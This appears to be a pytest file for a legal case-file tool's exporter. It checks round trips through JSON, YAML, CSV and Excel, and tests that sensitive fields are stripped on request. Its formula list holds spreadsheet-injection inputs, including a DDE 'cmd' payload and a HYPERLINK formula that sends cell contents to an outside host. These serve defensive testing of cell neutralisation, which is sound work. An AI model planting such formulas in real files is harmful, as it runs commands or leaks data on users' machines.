"""Cases out to other programs: equal when they come back, harmless in a spreadsheet, and without what is not to go out."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.interchange.books import book, serial, sheet

from forbear.casefile.fields import fields, sensitivity
from forbear.casefile.model import CaseFile
from forbear.casefile.reading import as_data, check_case, read_case
from forbear.casefile.tree import Tree
from forbear.interchange.cells import decoded, encoded
from forbear.interchange.exporting import export, strip, turned
from forbear.interchange.importing import preview
from forbear.interchange.mapping import propose
from forbear.interchange.places import known
from forbear.interchange.tables import read_table

FILES = sorted((Path(__file__).parents[1] / "cases").glob("*.yaml"))


def cases():
    return [check_case(Tree(yaml.safe_load(path.read_text(encoding="utf-8"))["case"], {}), path.stem) for path in FILES]


def case(**facts):
    return check_case(Tree({"person": {"full_name": "Ana Ruiz"}} | facts, {}), "ana")


def back(text, folder, name="ana.csv"):
    """The cases that importing reads out of an exported table."""
    path = folder / name
    path.write_bytes(text.encode())
    table = turned(read_table(path), path.stem)
    rows = preview(table, propose(table), None).rows
    assert [problem for row in rows for problem in row.problems] == []
    return [row.file for row in rows]


def rows_of(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("shape", ["json", "yaml", "csv"])
def test_every_case_of_the_specification_comes_back_equal(tmp_path, shape):
    for one in cases():
        made = export([one], shape)
        if shape == "csv":
            (found,) = back(made.text, tmp_path)
        else:
            path = tmp_path / f"case.{shape}"
            path.write_text(made.text, encoding="utf-8")
            found = read_case(path)
        assert as_data(found) == as_data(one)


def test_many_cases_come_back_equal_from_one_table(tmp_path):
    given = cases()
    found = back(export(given, "csv").text, tmp_path)
    assert [(one.name, as_data(one)) for one in found] == [(one.name, as_data(one)) for one in given]


def test_an_export_that_excel_opened_and_saved_as_a_workbook_comes_back_equal(tmp_path):
    def stored(text):
        if re.fullmatch(r"\d{4}-\d\d-\d\d", text):
            return ("date", serial(dt.date.fromisoformat(text)))
        return text == "true" if text in ("true", "false") else int(text) if re.fullmatch(r"[1-9]\d{0,8}", text) else text

    path = tmp_path / "ana.xlsx"
    for one in cases():
        path.write_bytes(book({"ana": sheet([list(map(stored, row)) for row in rows_of(export([one], "csv").text)])}))
        table = turned(read_table(path), "ana")
        (row,) = preview(table, propose(table), None).rows
        assert row.file is not None, row.problems
        assert as_data(row.file) == as_data(one)


def test_a_column_that_somebody_added_to_an_export_leaves_the_others_as_they_were(tmp_path):
    one = case(person={"full_name": "Ana Ruiz", "languages": ["es", "en"]})
    lines = export([one, one], "csv").text.splitlines()
    path = tmp_path / "all.csv"
    path.write_text("\n".join([f"{lines[0]},Our notes", f"{lines[1]},call back"]), encoding="utf-8")
    table = read_table(path)
    mapping = propose(table)
    assert mapping.left == ("Our notes",)
    assert [row.file and row.file.facts for row in preview(table, mapping, None).rows] == [one.facts]


@pytest.mark.parametrize(
    "paths",
    [("criminal", "criminal[0].charge"), ("criminal[0].charge", "criminal"), ("caregiving[0].need", "caregiving.emergency_plan"),
     ("caregiving.emergency_plan", "caregiving[0].need"), ("education.detail", "education.detail[0]"), ("entry[0]", "entry[0].date")],
)  # fmt: skip
def test_a_table_that_says_two_things_of_one_place_is_refused(tmp_path, paths):
    path = tmp_path / "ana.csv"
    values = {"criminal": "[]", "entry[0]": "{}", "caregiving.emergency_plan": "true"}
    path.write_text("path,value,sensitivity\n" + "".join(f"{one},{values.get(one, 'x')},\n" for one in paths), encoding="utf-8")
    table = turned(read_table(path), "ana")
    (row,) = preview(table, propose(table), None).rows
    assert row.problems


def test_a_table_of_one_case_is_a_fact_a_row_with_its_sensitivity():
    made = export([case(entry=[{"date": "2004-06-12", "place": "Naco"}], criminal=[], taxes={"owed": False})], "csv")
    assert rows_of(made.text) == [
        ["path", "value", "sensitivity"],
        ["person.full_name", "Ana Ruiz", "normal"],
        ["entry[0].date", "2004-06-12", "dangerous-if-disclosed"],
        ["entry[0].place", "Naco", "dangerous-if-disclosed"],
        ["criminal", "[]", "privileged"],
        ["taxes.owed", "false", "privileged"],
    ]
    assert made.holds["dangerous-if-disclosed"] == ["entry[0].date", "entry[0].place"]


def test_yaml_says_at_its_head_what_it_holds():
    assert export([case(entry=[{"date": "2004-06-12"}])], "yaml").text.startswith("# dangerous-if-disclosed: entry[].date\nformat:")


def test_what_is_left_out_leaves_no_trace_behind():
    one = case(
        entry=[{"date": "2004-06-12", "place": "Naco", "admitted_as": "B-2"}],
        criminal=[{"charge": "theft", "disposition_date": "2011-01-31"}],
        family=[],
        residence={"continuous_since": "2004-06-12", "state": "CO"},
        health={"self": []},
    )
    made = export([one], "json", {"dangerous-if-disclosed", "privileged"})
    assert yaml.safe_load(made.text) == {
        "format": "forbear-case/1",
        "person": {"full_name": "Ana Ruiz"},
        "entry": [{"admitted_as": "B-2"}],
        "residence": {"state": "CO"},
    }
    assert set(made.left_out["privileged"]) == {"criminal[0].charge", "criminal[0].disposition_date", "health.self"}
    assert set(made.holds) == {"normal"}


def test_without_grades_holds_for_every_case():
    for one in cases():
        for left_out in ({"privileged"}, {"dangerous-if-disclosed"}, {"privileged", "dangerous-if-disclosed"}):
            made = export([one], "csv", left_out)
            assert not left_out & {row[2] for row in rows_of(made.text)[1:]}
            assert not left_out & set(made.holds)
            assert set(made.left_out) <= left_out


def test_nothing_is_left_out_unasked():
    one = cases()[0]
    assert strip(one, ()) is one
    assert export([one], "csv").left_out == {}


def test_a_field_without_a_grade_of_its_own_is_as_grave_as_what_it_stands_beside():
    assert all(known(path.replace("[]", "[0]")) for path in fields())
    assert all(sensitivity(path) == field.sensitivity for path, field in fields().items() if field.graded)
    assert sensitivity("criminal[0].disposition_date") == "privileged"
    assert sensitivity("criminal_civil.entered") == "dangerous-if-disclosed"
    assert sensitivity("person.called") == "normal"
    assert sensitivity("entry") == "dangerous-if-disclosed"
    assert sensitivity("evidence[2].proves[0]") == "normal"


FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "＝1+1",
    "'=1",
    "\n=cmd|' /C calc'!A0",
    "'",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_that_goes_out_is_a_formula_and_the_text_comes_back_as_it_was(tmp_path, text):
    one = case(education={"detail": text})
    two = CaseFile("=1", case(education={"detail": text}, person={"full_name": "Luis"}).facts)
    for made in (export([one], "csv"), export([one, two], "csv")):
        written = [cell for row in rows_of(made.text) for cell in row]
        assert not [cell for cell in written if cell.lstrip().startswith(("=", "+", "-", "@", "＝"))]
        assert back(made.text, tmp_path)[0].text("education.detail") == text


WRITTEN = st.text(
    st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    | st.sampled_from("\n\t'\"=,;[{"),
    max_size=40,
)
VALUES = WRITTEN | st.sampled_from(["null", "true", "[]", "{}", "[1]", '"x"', "2004-06-12", "12", "None", "unknown", "n/a", " x "])


@given(VALUES)
def test_every_text_is_read_back_out_of_a_cell(text):
    assert decoded(encoded(text), fields()["education.detail"]) == (text, "")


@pytest.mark.parametrize("text", ['"never closed', "[1, 2", '"\\ud800"', "[" * 100_000])
def test_a_cell_that_begins_like_json_and_is_none_is_refused(text):
    assert "as JSON writes it" in decoded(text, fields()["education.detail"])[1]


@given(st.lists(st.tuples(VALUES, VALUES), min_size=1, max_size=4))
@settings(max_examples=60)
def test_whatever_a_case_says_comes_back_out_of_a_table(tmp_path, said):
    made = [
        case(
            person={"full_name": f"Client {number}", "other_names": [other]},
            education={"detail": text},
            health=None,
            community=[{"kind": text}, {}],
        )
        for number, (text, other) in enumerate(said)
    ]
    found = back(export(made, "csv").text, tmp_path)
    assert [as_data(one) for one in found] == [as_data(one) for one in made]
